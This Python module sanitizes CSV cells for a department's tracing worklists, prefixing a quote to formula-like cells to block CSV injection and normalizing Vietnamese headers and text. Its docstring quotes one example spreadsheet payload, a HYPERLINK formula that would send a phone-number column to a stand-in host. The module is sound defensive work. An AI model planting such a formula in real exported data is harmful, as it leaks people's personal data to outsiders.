"""CSV cells in and out: a department's spreadsheet read as people mean it, and written so that no cell runs as a
formula (the OWASP rule against CSV injection).

Tracers open worklists and notices in Excel or LibreOffice. A venue named
`=HYPERLINK("http://x/?"&C2,"xem")` would become a live link that sends the
phone number of column C away when clicked. So every CSV cell goes through
`safe_cell`: where a spreadsheet may start reading a formula, a single quote
`'` is put in front, which spreadsheets show as text and never evaluate.

Where a spreadsheet may start reading:
- at the start of the cell, and after each `,` `;` tab, CR or LF inside it: a
  spreadsheet opening the file with another separator than ours (Vietnamese
  Excel splits on `;`) or a naive line-based reader cuts the cell there;
- past leading whitespace and double quotes, which some readers trim
  (` =1+1`, `"=1+1"`);
- a formula starts with `=`, `+`, `-` or `@` (their full-width forms too, which
  East Asian spreadsheets fold to ASCII); a cell starting with tab or CR is
  quoted whatever follows (OWASP).

Plain numbers stay as they are (`-12.5`, `1e-05`, and `+84912345678`): a
spreadsheet reads them as numbers, never as formulas. E.164 phone numbers are
such numbers on purpose: a quote in front would be copied into the dialer
with the number; the worklists' `phone_to_dial` column (`0912 345 678`) is
the one written to survive a spreadsheet untouched.

Only the CSV files are neutralized; their Parquet twins keep the raw values.
"""

import re
import unicodedata
from collections.abc import Mapping
from typing import Any

NEUTRALIZER = "'"
FORMULA_STARTS = frozenset("=+-@")
CONTROL_STARTS = ("\t", "\r")

_SEPARATOR = re.compile(r"([,;\t\r\n])")
_LEAD = re.compile(r'^[\s"\u200b\ufeff]+')
_PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")


def _reads_as_formula(piece: str) -> bool:
    """Whether a spreadsheet reading `piece` as a cell could take it for a formula."""
    text = _LEAD.sub("", piece)
    if not text or unicodedata.normalize("NFKC", text[0])[:1] not in FORMULA_STARTS:
        return False
    return _PLAIN_NUMBER.fullmatch(text.rstrip().rstrip('"')) is None


def neutralize(text: str) -> str:
    """`text` with a `'` in front of every place a spreadsheet could read as a formula."""
    pieces = _SEPARATOR.split(text)
    safe = "".join(
        NEUTRALIZER + piece if index % 2 == 0 and _reads_as_formula(piece) else piece
        for index, piece in enumerate(pieces)
    )
    return NEUTRALIZER + safe if safe.startswith(CONTROL_STARTS) else safe


def safe_cell(value: object) -> str:
    """The CSV text of `value`: None as an empty cell, anything else as `str` would write it, neutralized."""
    return "" if value is None else neutralize(str(value))


def safe_row(row: Mapping[str, Any]) -> dict[str, str]:
    """A CSV row with every cell through `safe_cell`."""
    return {key: safe_cell(value) for key, value in row.items()}


def header_key(text: str) -> str:
    """`Số Điện Thoại ` → `sodienthoai`: letters and digits only, no accents, no case."""
    folded = unicodedata.normalize("NFC", text).casefold().replace("đ", "d")
    bare = "".join(ch for ch in unicodedata.normalize("NFD", folded) if not unicodedata.combining(ch))
    return "".join(ch for ch in bare if ch.isalnum())


def clean(text: str) -> str:
    """A cell as people mean it: NFC, inner runs of whitespace as one space, no outer whitespace."""
    return " ".join(unicodedata.normalize("NFC", text).split())
